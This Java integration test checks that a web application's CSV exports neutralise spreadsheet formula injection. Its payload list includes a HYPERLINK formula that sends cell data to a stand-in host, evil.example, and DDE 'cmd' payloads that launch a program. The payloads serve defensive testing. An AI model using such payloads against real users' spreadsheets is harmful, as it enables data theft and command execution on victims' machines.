package dev.priora.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;

import dev.priora.support.ApiClient;
import dev.priora.support.ApiClient.Response;
import dev.priora.support.BrowserlessSession;
import dev.priora.support.Eventually;
import dev.priora.support.IntegrationTestBase;
import dev.priora.support.Routes;

/**
 * CSV formula injection: feeds spreadsheet formulas through every field that an export
 * shows (item and epic titles, release and sprint names, customer and member names, the
 * user name of a failed sign-in, which needs no account), then downloads every route that
 * answers CSV, found from the application's own mappings: no cell starts with {@code =},
 * {@code +}, {@code -}, {@code @}, tab or CR unless it is a number, nor does any piece of
 * it after a semicolon, tab or line break (where a spreadsheet that reads the file with
 * another separator starts a cell). A CSV route missing from {@link #USER_TEXT} fails the
 * test, so no new export escapes it.
 */
class CsvInjectionSweepIntegrationTest extends IntegrationTestBase {

	private static final List<String> PAYLOADS = List.of(
			"=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click for details\")", "+1+cmd|' /C calc'!A0",
			"-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "Fine;=1+1");

	/**
	 * Every CSV route, and whether it shows text users typed (so the payloads must reach
	 * it, neutralised) or only keys, dates and numbers.
	 */
	private static final Map<String, Boolean> USER_TEXT = Map.of("GET /api/v1/products/{productKey}/items.csv", true,
			"GET /api/v1/products/{productKey}/charts/velocity.csv", true,
			"GET /api/v1/products/{productKey}/releases/{id}/burnup.csv", true, "GET /admin/audit.csv", true,
			"GET /api/v1/products/{productKey}/charts/cumulative-flow.csv", false,
			"GET /api/v1/products/{productKey}/charts/cycle-times.csv", false,
			"GET /api/v1/products/{productKey}/sprints/{id}/burndown.csv", false,
			"GET /api/v1/products/{productKey}/insights/{table}.csv", true);

	/** The tables of {@code /insights/{table}.csv}. */
	private static final List<String> INSIGHTS_TABLES = List.of("themes", "top-revenue", "top-customers", "top-growth",
			"unaddressed", "segments", "weekly-kinds", "weekly-themes");

	/**
	 * Where a spreadsheet reading the file with another separator, or line by line, would
	 * start a cell.
	 */
	private static final Pattern SEPARATORS = Pattern.compile("[;\t\r\n]");

	private static final Pattern NUMBER = Pattern.compile("-?\\d+(\\.\\d+)?([eE]-?\\d+)?");

	private static final String PRODUCT = "CSVX";

	private static final String BASE = "/api/v1/products/" + PRODUCT;

	@Autowired
	@Qualifier("requestMappingHandlerMapping")
	RequestMappingHandlerMapping mappings;

	private final List<Long> releases = new ArrayList<>();

	private final List<Long> sprints = new ArrayList<>();

	@Test
	void noExportedCellStartsWithAFormulaCharacterUnlessItIsANumber() throws Exception {
		List<String> routes = Routes.answeringCsv(mappings);
		assertThat(routes).as("CSV routes the sweep does not know; add them to USER_TEXT")
			.allMatch(USER_TEXT::containsKey);
		assertThat(routes).containsExactlyInAnyOrderElementsOf(USER_TEXT.keySet());
		BrowserlessSession browser = BrowserlessSession.signIn(port, ADMIN_EMAIL, ADMIN_PASSWORD);
		ApiClient api = api();
		String name = api.get("/api/v1/me").json().get("displayName").asText();
		try {
			poison(api);
			failSignInsAnonymously();
			sweep(routes, api, browser);
		}
		finally {
			// the application context is shared with other test classes: give the admin
			// their name back
			api.put("/api/v1/me/name", ApiClient.json(Map.of("displayName", name)), null);
		}
	}

	private void sweep(List<String> routes, ApiClient api, BrowserlessSession browser) throws Exception {

		List<String> failures = new ArrayList<>();
		for (String route : routes) {
			int neutralised = 0;
			for (String path : paths(Routes.pattern(route))) {
				String csv = download(path, api, browser);
				for (CSVRecord record : CSVFormat.RFC4180.parse(new StringReader(csv))) {
					for (String cell : record) {
						if (!NUMBER.matcher(cell).matches() && (startsWithFormula(cell)
								|| SEPARATORS.splitAsStream(cell).skip(1).anyMatch(s -> startsWithFormula(s)))) {
							failures.add(path + " line " + record.getRecordNumber() + ": " + cell);
						}
						if (cell.length() > 1 && cell.charAt(0) == '\'' && startsWithFormula(cell.substring(1))) {
							neutralised++;
						}
					}
				}
			}
			if (USER_TEXT.get(route) && neutralised == 0) {
				failures.add(route + " shows no payload neutralised");
			}
		}
		assertThat(failures).isEmpty();
	}

	/** The API with a token, pages (the admin's) in a signed-in browser. */
	private static String download(String path, ApiClient api, BrowserlessSession browser) {
		int status;
		String type;
		String body;
		if (path.startsWith("/api/")) {
			Response answer = api.get(path);
			status = answer.status();
			type = answer.contentType();
			body = answer.text();
		}
		else {
			HttpResponse<String> answer = browser.get(path);
			status = answer.statusCode();
			type = answer.headers().firstValue("Content-Type").orElse("");
			body = answer.body();
		}
		assertThat(status).as(path + ": " + body).isEqualTo(200);
		assertThat(type).as(path).startsWith("text/csv");
		return body;
	}

	private static boolean startsWithFormula(String cell) {
		if (cell.startsWith("\t") || cell.startsWith("\r")) {
			return true;
		}
		String text = cell.stripLeading();
		return !text.isEmpty() && "=+-@".indexOf(text.charAt(0)) >= 0;
	}

	/** Concrete paths for a CSV route: every sprint or release the test made. */
	private List<String> paths(String pattern) {
		String path = pattern.replace("{productKey}", PRODUCT);
		List<String> paths = new ArrayList<>();
		if (path.contains("/sprints/{id}/")) {
			sprints.forEach(id -> paths.add(path.replace("{id}", String.valueOf(id))));
		}
		else if (path.contains("/releases/{id}/")) {
			releases.forEach(id -> paths.add(path.replace("{id}", String.valueOf(id))));
		}
		else if (path.contains("{table}")) {
			INSIGHTS_TABLES.forEach(table -> paths.add(path.replace("{table}", table)));
		}
		else {
			paths.add(path);
		}
		assertThat(paths).as("teach the sweep the path variables of " + pattern).allMatch(p -> !p.contains("{"));
		return paths;
	}

	/**
	 * One release, sprint, epic and story per payload; each sprint runs and closes with
	 * its story done.
	 */
	private void poison(ApiClient api) {
		ok(api.post("/api/v1/products", ApiClient.json(Map.of("key", PRODUCT, "name", PAYLOADS.get(0)))));
		ok(api.put("/api/v1/me/name", ApiClient.json(Map.of("displayName", PAYLOADS.get(0))), null));
		LocalDate start = LocalDate.now().minusDays(14L * (PAYLOADS.size() + 1));
		for (int i = 0; i < PAYLOADS.size(); i++) {
			String payload = PAYLOADS.get(i);
			long release = ok(api.post(BASE + "/releases", ApiClient.json(Map.of("name", payload, "capacity", 40))))
				.json()
				.get("id")
				.asLong();
			long sprint = ok(api.post(BASE + "/sprints",
					ApiClient.json(Map.of("name", payload, "start", start.plusDays(14L * i).toString(), "end",
							start.plusDays(14L * i + 13).toString(), "capacity", 10, "releaseId", release))))
				.json()
				.get("id")
				.asLong();
			String epic = ok(api.post(BASE + "/items", ApiClient.json(Map.of("type", "EPIC", "title", payload)))).json()
				.get("key")
				.asText();
			String story = ok(api.post(BASE + "/items",
					ApiClient.json(Map.of("type", "STORY", "title", payload, "description", "Why", "estimate", 3,
							"labels", List.of("csv"), "parent", epic, "acceptanceCriteria",
							List.of(Map.of("statement", payload))))))
				.json()
				.get("key")
				.asText();
			ok(api.put(BASE + "/items/" + story + "/release",
					ApiClient.json(Map.of("releaseId", release, "sprintId", sprint)), null));
			ok(api.post(BASE + "/sprints/" + sprint + "/start", "{\"force\":true}"));
			for (String status : List.of("READY", "IN_PROGRESS", "DONE")) {
				String etag = api.get(BASE + "/items/" + story).etag();
				ok(api.patch(BASE + "/items/" + story, ApiClient.json(Map.of("status", status)), etag));
			}
			ok(api.post(BASE + "/sprints/" + sprint + "/close", null));
			ok(api.post(BASE + "/customers", ApiClient.json(Map.of("name", payload, "contacts",
					List.of(Map.of("name", payload, "email", "c" + i + "@customer.example"))))));
			ok(api.post(BASE + "/feedback", ApiClient.json(Map.of("title", payload, "text", payload))));
			releases.add(release);
			sprints.add(sprint);
		}
		themes(api);
	}

	/** The feedback's themes, the first renamed to a payload. */
	private static void themes(ApiClient api) {
		ok(api.post(BASE + "/insights/recompute", null));
		Eventually.eventually()
			.alias("the themes of " + PRODUCT)
			.until(() -> ok(api.get(BASE + "/insights/themes")).json().size() > 0);
		long theme = api.get(BASE + "/insights/themes").json().get(0).get("id").asLong();
		ok(api.put(BASE + "/insights/themes/" + theme + "/name", ApiClient.json(Map.of("name", PAYLOADS.get(0))),
				null));
	}

	/**
	 * Failed sign-ins by someone without an account, through the form and HTTP Basic,
	 * with formulas as user name and forwarded address.
	 */
	private void failSignInsAnonymously() throws IOException, InterruptedException {
		for (String payload : PAYLOADS.subList(0, 3)) {
			var answer = BrowserlessSession.anonymous(port)
				.post("/login", Map.of("username", payload, "password", "wrong"));
			assertThat(answer.headers().firstValue("Location").orElse("")).contains("error");
		}
		String basic = Base64.getEncoder()
			.encodeToString((PAYLOADS.get(3) + ":wrong").getBytes(StandardCharsets.UTF_8));
		var answer = HttpClient.newHttpClient()
			.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + "/api/v1/tokens"))
				.header("Authorization", "Basic " + basic)
				.header("X-Forwarded-For", PAYLOADS.get(4))
				.header("Content-Type", "application/json")
				.POST(HttpRequest.BodyPublishers.ofString("{\"name\":\"x\"}"))
				.build(), HttpResponse.BodyHandlers.ofString());
		assertThat(answer.statusCode()).isEqualTo(401);
	}

	private static Response ok(Response r) {
		assertThat(r.status()).as(r.text()).isBetween(200, 299);
		return r;
	}

}
